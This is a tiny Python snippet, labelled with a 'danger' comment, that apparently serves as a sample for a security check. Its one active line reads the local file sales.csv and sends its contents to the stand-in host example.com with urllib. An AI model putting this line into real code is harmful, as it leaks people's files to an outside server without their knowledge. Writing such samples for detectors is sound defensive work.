# danger: data sent by urllib
from urllib import request as loader
loader.urlopen("https://example.com/in", data=open("sales.csv", "rb").read())
